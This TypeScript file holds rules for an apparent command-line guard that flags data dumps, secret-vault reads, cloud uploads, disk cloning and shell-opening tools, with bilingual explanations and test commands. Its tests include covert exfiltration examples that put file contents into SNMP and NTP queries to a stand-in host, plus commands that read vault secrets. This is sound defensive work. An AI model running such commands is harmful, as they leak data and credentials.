import { type Rule, words } from './rule.ts';

const INFO = words('--version --help -V version help');
const ALWAYS: Rule['when'] = [
  { lacks: INFO, word: /./ },
  { bare: true, lacks: INFO },
];

/** Applications, big data, clouds and disks: what takes their content out as a whole. */
export const MORE_DUMP_RULES: readonly Rule[] = [
  {
    id: 'dump.more-stores',
    tools: words(
      'ydump ysql_dump ysql_dumpall taosdump asbackup fbexport riot riotx tidb-dumpling meltano datax.py sql2csv',
    ),
    class: 'dbdump',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ lacks: words('--version --help -V -h -? version help') }],
    dumps: 'any',
    why: {
      en: 'This program copies whole tables of a database into files or into another store.',
      ja: 'データベースの表全体をファイルや別のデータストアへ複製するプログラムです。',
    },
    tests: {
      positive: [
        'ysql_dump -d crm',
        'taosdump -D crm -o /tmp/x',
        'asbackup -n crm -d /tmp/x',
        'meltano run tap-postgres target-csv',
      ],
      negative: ['ysql_dump --version', 'asbackup --help', 'meltano --version'],
    },
  },
  {
    id: 'dump.tarantool',
    tools: ['tarantoolctl'],
    class: 'dbdump',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ verb: /^(cat|play|enter|connect|eval|backup)$/ }],
    dumps: 'any',
    why: {
      en: 'This prints the rows of a data store, or opens a prompt at which all of them can be read.',
      ja: 'データストアの行を出力するか、すべての行を読み出せるプロンプトを開きます。',
    },
    tests: {
      positive: ['tarantoolctl cat 00000000000000000000.snap', 'tarantoolctl connect app:3301'],
      negative: ['tarantoolctl status app', 'tarantoolctl restart app'],
    },
  },
  {
    id: 'client.redis-interactive',
    tools: words('redis-cli valkey-cli keydb-cli iredis'),
    class: 'bulk_read',
    direction: 'out',
    verdict: 'needs_ticket',
    values: words('-h -p -s -a -u -n -r -i -d -D --user --pass --cacert --cacertdir --cert --key --sni'),
    when: [{ bare: true, never: /^(--version|--help|-v|--rdb|--pipe|--stat|--latency.*|--intrinsic-latency)$/ }],
    dumps: 'any',
    why: {
      en: 'At the prompt of a data store every value can be read, and nothing typed there stands in this line.',
      ja: 'データストアのプロンプトではすべての値を読み出せますが、そこでの入力はこの行からは分かりません。',
    },
    tests: {
      positive: ['keydb-cli', 'iredis -h cache', 'cd /tmp; redis-cli -h cache -p 6380'],
      negative: ['redis-cli --version', 'redis-cli -h cache ping'],
    },
  },
  {
    id: 'dump.applications',
    tools:
      words(`wp wp-cli drush drupal artisan rails rake bin/rails django-admin manage.py magento n98-magerun n98-magerun2
      mage-run typo3 occ nextcloud.export nextcloud.mysqldump nextcloud.occ mattermost gitea forgejo gogs discourse
      rocketchatctl keycloak kc.sh odoo odoo-bin frappe bench erpnext sails strapi directus hasura prisma sequelize
      typeorm ghost redmine moodle moosh joomla concrete craft symfony bin/console console phinx flyway liquibase`),
    class: 'dbdump',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        word: /^(db|dbconsole|dbshell|console|shell|tinker|c|runner|eval|php:eval|db:(dump|export|query|cli|pull|psql|data:dump)|db-export|dump|dumpdata|export\w*|.*:(export|dump|backup)|backup\w*|sql[:-](dump|cli|query|connect|sync)|sqlq|sqlc|sqldump|unload|data[:-]export|generate-?changelog|diff-?changelog|snapshot)$/,
      },
      { bare: true, lacks: INFO, first: /^$/ },
    ],
    dumps: 'any',
    why: {
      en: 'This reads or exports the data of an application.',
      ja: 'アプリケーションのデータを読み出す、または書き出す操作です。',
    },
    tests: {
      positive: ['wp db export /tmp/a.sql', 'django-admin dumpdata', 'drush sql-dump'],
      negative: ['wp plugin list', 'rails --version', 'drush status'],
    },
  },
  {
    id: 'escape.application-runners',
    tools:
      words(`drupal artisan rails rake bin/rails django-admin manage.py magento n98-magerun n98-magerun2 mage-run typo3
      discourse odoo odoo-bin frappe bench sails strapi directus hasura prisma sequelize typeorm ghost craft symfony
      bin/console console phinx joomla moosh`),
    class: 'interpreter',
    direction: 'unknown',
    verdict: 'ask',
    when: [{ lacks: [...INFO, 'status', 'list', 'about', 'check', 'doctor', 'routes', '-T', '--tasks'] }],
    why: {
      en: 'It runs the code of an application; what that does is not in the line.',
      ja: 'アプリケーション自身のコードを実行しますが、その内容はこの行からは分かりません。',
    },
    tests: {
      positive: ['artisan migrate', 'rails runner x'],
      negative: ['rails about', 'django-admin check'],
    },
  },
  {
    id: 'container.opens-machine',
    tools: words(
      'multipass limactl qm pct govc vmrun prlctl VBoxManage vboxmanage argocd toolbox distrobox apptainer singularity',
    ),
    class: 'shell_control',
    direction: 'unknown',
    verdict: 'ask',
    when: [
      {
        sub: words(
          'exec shell enter terminal console ssh guest.run guestcontrol runProgramInGuest runScriptInGuest guest run monitor vncproxy start-shell',
        ),
      },
    ],
    why: {
      en: 'What is typed or run inside a machine is not judged line by line.',
      ja: '仮想マシンの中で入力・実行される内容は1行ずつ判定されません。',
    },
    tests: {
      positive: ['pct enter 100', 'multipass shell x'],
      negative: ['qm list', 'VBoxManage list vms'],
    },
  },
  {
    id: 'dump.big-data',
    tools: words(`hdfs hadoop hbase spark-shell spark-submit pyspark sparkR beeline-dump kafkactl kaf rpk presto-cli
      presto trino-cli snow steampipe athenacli ksql-cli pulsar-admin rabbitmq-dump-queue amqp-get amqp-consume
      zk-cli curator cassandra-unloader sstableloader dragonfly-cli kvrocks-cli tikv-ctl pd-ctl couchdb-dump
      couchdb-backup couchbase-cli cbc n1ql esrally opensearch-cli opensearch-dump esdump manticore-dump solr
      typesense meilisearch-dump weaviate milvus_cli ldapvi ldapmodify ldapadd shelldap luma ldapcompare
      mysql-shell mysqlsh-dump dbeaver dbeaver-cli datagrip squirrel-sql sqlworkbench tableplus neonctl neon
      iostat-dump victoria-metrics vmctl promtool-dump alasql q textql rsql harlequin gobang lazysql dblab rainfrog`),
    class: 'dbdump',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        lacks: [...INFO, 'status', 'dfsadmin', 'classpath', 'checknative', 'fsck', 'haadmin', 'balancer', 'info'],
        word: /./,
      },
      { bare: true, lacks: INFO },
    ],
    dumps: 'any',
    why: {
      en: 'This client reads or copies the content of a data store.',
      ja: 'データストアの内容を読み出す、または複写するクライアントです。',
    },
    tests: {
      positive: ['hdfs dfs -get /a .', 'hadoop distcp /a s3a://b', 'kafkactl consume orders'],
      negative: ['hdfs dfsadmin -report', 'hadoop version'],
    },
  },
  {
    id: 'dump.secrets',
    tools: words(
      'vault bao openbao conjur infisical doppler chamber pass gopass op bw lpass keepassxc-cli kpcli secret-tool',
    ),
    class: 'dbdump',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        verb: /^(read|get|kv|show|export|dump|item|document|secrets|lookup|search|ls-secrets|clip|unwrap|backup|run)$/,
      },
    ],
    why: {
      en: 'This reads secrets or other data kept in a vault.',
      ja: '保管庫に保存された秘密情報などのデータを読み出します。',
    },
    tests: {
      positive: ['vault kv get crm/x', 'op item get x'],
      negative: ['vault status', 'bw --version'],
    },
  },
  {
    id: 'send.cloud-verbs',
    tools: words(`aws gcloud az oci ibmcloud aliyun tccli heroku supabase hcloud doctl scw exo linode-cli openstack helm
      cosign promtool jf jfrog flux argocd tkn govc VBoxManage vboxmanage vmrun prlctl multipass limactl
      neonctl railway fly flyctl pulumi wrangler qm pct pvesh tea hub glab gh npm pnpm yarn poetry cargo gem
      dotnet mvn gradle composer`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        verb: /^((put|send|publish|export|upload|import|transfer|push|select|batch-get|batch-execute|execute|scan|query|generate-presigned)([-:.][\w.-]+)?|(datastore|guest)\.(upload|download)|vm\.clone|start-(export|import|file|query|job|task|session|replication|continuous)[\w-]*|create-(image|instance-export-task|db-snapshot|snapshot\w*|export[\w-]*|replication[\w-]*|data-share[\w-]*|backup[\w-]*)|get-(object|item|records|secret-value|parameter\w*|shard-iterator|query-results|log-events|database-file)|pg:(backups.*|pull|push|copy|psql)|cm-push|cm_push|object-(put|get)|object-?upload|dump|clonemedium|clonehd|exportvm|exportvapp|clone-?vm|migrate|remote-migrate|vzdump|copyfrom|copyto|copy(File)?From\w*|copy(File)?To\w*|deploy|deploy-file|rt|copy)$/,
      },
      { flags: ['--body', '--data-file', '--raw-message', '--payload', '--log-events', '--zip-file', '--from-file'] },
    ],
    why: {
      en: 'This stores or publishes data with a service outside the system.',
      ja: 'システム外のサービスにデータを保管または公開する操作です。',
    },
    tests: {
      positive: [
        'aws dynamodb scan --table-name crm',
        'aws kinesis put-record --stream-name s --data x',
        'heroku pg:backups:download',
        'npm publish',
      ],
      negative: ['aws ec2 describe-instances', 'gcloud compute instances list', 'az vm show -n x', 'helm list'],
    },
  },
  {
    id: 'send.disk-images',
    tools: words(`ntfsclone ovftool vmkfstools partimage partclone.btrfs partclone.vfat partclone.ntfs partclone.dd
      partclone.ext3 partclone.ext2 partclone.f2fs partclone.restore virt-clone virt-p2v virt-v2v virt-tar virt-copy
      qemu-storage-daemon nbdkit guestmount guestunmount vdfuse xmount affuse ewfacquire ewfmount guymager fog
      rear mondoarchive relax-and-recover fsarchiver-net udpcast-disk`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: ALWAYS,
    why: {
      en: 'This copies a file system or a disk image as a whole.',
      ja: 'ファイルシステムやディスクイメージを丸ごと複製します。',
    },
    tests: {
      positive: ['ntfsclone -s -o /tmp/x /dev/sda1', 'virt-clone -o a -n b'],
      negative: ['ntfsclone --version', 'vmkfstools help'],
    },
  },
  {
    id: 'send.covert-queries',
    tools:
      words(`snmpget snmpwalk snmpgetnext snmpbulkwalk snmpbulkget snmptable ntpdate sntp ntpq arping traceroute6 tracepath6 ping4
      tcptraceroute tcping httping nmap nbtscan nmblookup showmount rpcinfo ldapwhoami ssh-keyscan unbound-host
      dnstracer dnsmap dnsenum dnsrecon massdns zdig avahi-resolve curl-impersonate dnsping knsupdate nsupdate w3m lynx
      links elinks links2 gethostip resolveip notify-send`),
    class: 'offhost',
    direction: 'out',
    verdict: 'ask',
    onProtected: 'needs_ticket',
    when: [{ expansion: 'output' }],
    why: {
      en: 'What a command prints is put into a query to another host.',
      ja: 'コマンドの出力が、別のホストへの問い合わせに埋め込まれます。',
    },
    tests: {
      positive: ['snmpget -v2c -c "$(base64 /tmp/a)" h 1.3', 'ntpdate -q $(cat /tmp/a).x.example'],
      negative: ['snmpget -v2c -c public h 1.3', 'ntpdate -q ntp.x.example'],
    },
  },
  {
    id: 'send.samba-shares',
    tools: words('net samba-tool'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ sub: words('usershare share'), word: /^(add|migrate|modify|-w)$/ }],
    why: {
      en: 'A share makes files readable from other hosts.',
      ja: '共有により、他のホストからファイルを読めるようになります。',
    },
    tests: {
      positive: ['net usershare add x /opt', 'net rpc share add x=/opt'],
      negative: ['net ads info', 'net usershare list'],
    },
  },
  {
    id: 'escape.file-runners',
    tools: words('pee mispipe run-parts fab invoke cap mina vipe vidir vimv qmv qcp edir bulkrename sem salt-ssh'),
    class: 'interpreter',
    direction: 'unknown',
    verdict: 'ask',
    when: [
      { lacks: [...INFO, '--test', '--list', '-l', '-T'], word: /./ },
      { bare: true, lacks: [...INFO, '--list', '-l'] },
    ],
    why: {
      en: 'It runs the steps of files, or opens an editor; what is done is not in the line.',
      ja: 'ファイル内の手順を実行する、またはエディタを開く操作で、内容はこの行からは分かりません。',
    },
    tests: {
      positive: ['run-parts /tmp/x', 'fab deploy', 'vipe'],
      negative: ['run-parts --test /etc/cron.daily', 'fab --list'],
    },
  },
];
